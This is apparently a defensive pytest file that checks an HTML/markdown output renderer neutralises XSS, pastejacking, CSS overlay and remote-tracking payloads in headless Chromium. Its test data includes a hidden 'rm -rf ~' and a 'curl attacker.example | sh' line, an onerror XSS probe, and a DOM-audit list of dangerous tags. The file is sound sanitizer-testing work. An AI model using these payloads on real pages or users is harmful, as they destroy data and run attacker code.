"""The attack corpus rendered through handle_all and loaded in real headless Chromium.

A hook (``__pwned``, ``alert`` & co.) is installed before any page script; every payload would
call it, or request a URL outside this machine, if it ran. Neither may happen. The DOM is then
checked statically for anything active.
"""

from __future__ import annotations

import io

import pytest
from PIL import Image

from bai_media import Renderer

from .attacks import HOSTILE_RESULT_IDS, HTML_ATTACKS, MARKDOWN_MATH_ATTACKS, attack_items
from .html_checks import active_content

pytestmark = pytest.mark.browser

DOM_AUDIT = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    const widgetControl = ['input','button','textarea','select'].includes(tag) && el.disabled && el.closest('.bai-widget')
        && !el.hasAttribute('name') && !el.hasAttribute('form');
    if (['script','iframe','object','embed','form','input','button','textarea','select','meta','base','link','frame'].includes(tag)
        && !el.closest('head') && !widgetControl) found.push(tag);
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(tag + '[' + attr.name + ']');
      if (/^\\s*(javascript|vbscript|data:text)/i.test(attr.value) && ['href','src','action','formaction','xlink:href'].includes(attr.name))
        found.push(tag + '[' + attr.name + ']');
    }
    const style = getComputedStyle(el);
    if (style.position === 'fixed') found.push(tag + ' position:fixed');
  }
  if (typeof window.__pwned !== 'function') found.push('__pwned clobbered');
  if (!Array.isArray(window.__hits)) found.push('__hits clobbered');
  return found;
}"""


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_attack_page_runs_nothing(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    body = renderer.handle_all(attack_items(), "attacks")
    for rid in HOSTILE_RESULT_IDS:
        body += renderer.handle_all([("text/html", "<b>x</b>"), ("text/plain", "y")], rid)
    assert active_content(str(body)) == []
    page = load_page.open(renderer.render_page(body, title="attacks"), wait_ms=1500)
    # Hover and click everything once, so handlers that need interaction would fire too.
    page.evaluate("""() => { for (const el of document.querySelectorAll('a, div, img, details, summary')) {
        el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); } }""")
    page.page.wait_for_timeout(200)
    assert page.evaluate("window.__hits") == []
    assert page.dialogs == []
    assert page.blocked_requests == []
    assert page.evaluate(DOM_AUDIT) == []
    # Every item is there: nothing was dropped to achieve the above.
    assert page.evaluate("document.querySelectorAll('.bai-media-item').length") == len(attack_items()) + 2 * len(HOSTILE_RESULT_IDS)


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_attacks_through_style_inlining_run_nothing(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    """Kernel <style> rules send an output through css-inline (parse, inline, serialize) before the
    sanitizer: every HTML attack takes that path too, the rule applying to its elements."""
    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    style = "<style>* { color: rgb(1, 2, 3) } a, img { border: 1px solid red }</style>"
    body = renderer.handle_all([("text/html", style + payload) for payload in HTML_ATTACKS], "styled")
    assert active_content(str(body)) == [] and str(body).count("color: rgb(1, 2, 3)") > len(HTML_ATTACKS) // 2
    page = load_page.open(renderer.render_page(body, title="styled attacks"), wait_ms=1000)
    page.evaluate("""() => { for (const el of document.querySelectorAll('a, div, img, p')) {
        el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); } }""")
    page.page.wait_for_timeout(200)
    assert page.evaluate("window.__hits") == [] and page.dialogs == [] and page.blocked_requests == []
    assert page.evaluate(DOM_AUDIT) == []


def test_the_hook_would_notice_a_payload(load_page) -> None:  # type: ignore[no-untyped-def]
    """The harness itself: an unsanitized payload is caught, so a green run means something."""
    page = load_page.open("<img src=x onerror=__pwned(1)><a href='http://attacker.example/'>x</a>"
                          "<link rel=stylesheet href='http://attacker.example/x.css'>", wait_ms=500)
    assert page.hits == ["1"]
    assert page.blocked_requests == ["http://attacker.example/x.css"]


PASTEJACK = ("<div class='highlight'><pre>ls -la<span style='display:none'>; rm -rf ~ #</span>"
             "<span style='font-size:0'>; curl attacker.example | sh</span></pre></div>")
FAKE_CLIPBOARD = ("<script>Object.defineProperty(navigator, 'clipboard', {value: {writeText: "
                  "t => { window.__copied = t; return Promise.resolve(); }}});</script>")


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_copy_is_offered_only_on_text_the_server_built(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    from markupsafe import Markup

    from bai_media.assets.build import compile_assets

    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    body = renderer.handle_all([("text/html", PASTEJACK), ("text/markdown", PASTEJACK), ("stdout", "ls -la\n")], "p")
    runtime = compile_assets()["js/main.min.js"].decode()
    page = load_page.open(renderer.render_page(body, head=Markup(FAKE_CLIPBOARD + "<script>%s</script>") % Markup(runtime)), wait_ms=300)
    assert page.evaluate("document.querySelectorAll('.bai-media-copy').length") == 1
    assert page.evaluate("document.querySelector('#p-2 .bai-media-copy') !== null")
    page.page.click("#p-2 .bai-media-copy")
    page.page.wait_for_timeout(100)
    assert page.evaluate("window.__copied") == "ls -la\n"
    assert page.page_errors == [] and page.hits == []


ESCAPES = [  # CSS the style allowlist admits that would paint outside the item without containment
    "<div style='margin-top:-200px;height:300px;background-color:#ff0000'>over the header</div>",
    "<p style='text-indent:-2000px;font-size:200px;line-height:0;color:#ff0000;background-color:#ff0000'>XXXXXXXX</p>",
    "<span style='vertical-align:400px;font-size:150px;color:#ff0000;background-color:#ff0000'>up</span>",
    "<div style='margin:-300px 0 0 0;border:solid 300px #ff0000'>border</div>",
]


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_items_contain_their_painting_without_the_project_css(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    body = renderer.handle_all([("text/html", payload) for payload in ESCAPES] + [("text/markdown", ESCAPES[0])], "c")
    page_html = ("<!doctype html><html><body style='margin:0'>"
                 "<header id=host style='height:150px;background:#00ff00'>host header</header>"
                 f"<main>{body}</main></body></html>")  # no bai-media.css at all
    page = load_page.open(page_html, wait_ms=200, viewport={"width": 800, "height": 600})
    shot = Image.open(io.BytesIO(page.page.screenshot(clip={"x": 0, "y": 0, "width": 800, "height": 150}))).convert("RGB")
    assert (255, 0, 0) not in {colour for _, colour in shot.getcolors(1 << 16)}
    assert page.evaluate("document.elementFromPoint(400, 75).id") == "host"


REMOTE_ITEMS = [("text/html", "<img src='https://attacker.example/pixel.png'><video controls><source src='https://attacker.example/v.mp4'></video>"
                              "<audio controls src='https://attacker.example/a.ogg'></audio>"),
                ("text/markdown", "![tracker](https://attacker.example/md.png)")]


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_blocked_remote_media_fetch_nothing(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    allowed = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    page = load_page.open(allowed.render_page(allowed.handle_all(REMOTE_ITEMS, "r")), wait_ms=500)
    assert "https://attacker.example/pixel.png" in page.blocked_requests  # the default fetches (as Jupyter)
    for policy in ("block", "http://127.0.0.1:9/camo?u={url}"):
        renderer = Renderer(sanitizer=engine, remote_media=policy)  # type: ignore[arg-type]
        page = load_page.open(renderer.render_page(renderer.handle_all(REMOTE_ITEMS, "r")), wait_ms=500)
        assert page.blocked_requests == [] and page.hits == []
    assert page.evaluate("document.querySelectorAll('img').length") == 2
    blocked = load_page.open(Renderer(sanitizer=engine, remote_media="block").render_page(  # type: ignore[arg-type]
        Renderer(sanitizer=engine, remote_media="block").handle_all(REMOTE_ITEMS, "r")), wait_ms=300)  # type: ignore[arg-type]
    assert blocked.evaluate("document.querySelectorAll('a.bai-media-remote-link').length") == 4


@pytest.mark.parametrize("engine", ["nh3", "bleach"])
def test_math_restored_into_markdown_cannot_leave_its_attribute(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
    """Finding 1 of issue 14, fixed on the markdown engineer's branch (md)."""
    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
    body = renderer.handle_all(MARKDOWN_MATH_ATTACKS, "m")
    assert active_content(str(body)) == []
    page = load_page.open(renderer.render_page(body), wait_ms=500)
    assert page.evaluate("window.__hits") == [] and page.dialogs == [] and page.evaluate(DOM_AUDIT) == []
